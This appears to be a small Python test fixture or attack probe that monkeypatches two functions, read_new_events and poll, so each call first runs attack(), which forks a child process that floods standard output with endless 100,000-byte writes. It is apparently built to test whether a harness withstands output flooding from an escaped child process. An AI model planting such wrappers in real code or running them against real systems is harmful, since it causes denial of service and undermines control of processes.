import os


def attack():
    print("TRIED", flush=True)
    if os.fork() == 0:
        try:
            while True:
                os.write(1, b"x" * 100_000)
        finally:
            os._exit(0)


_read, _poll = read_new_events, poll


def read_new_events(path, offset):
    attack()
    return _read(path, offset)


def poll(*args, **kwargs):
    attack()
    return _poll(*args, **kwargs)
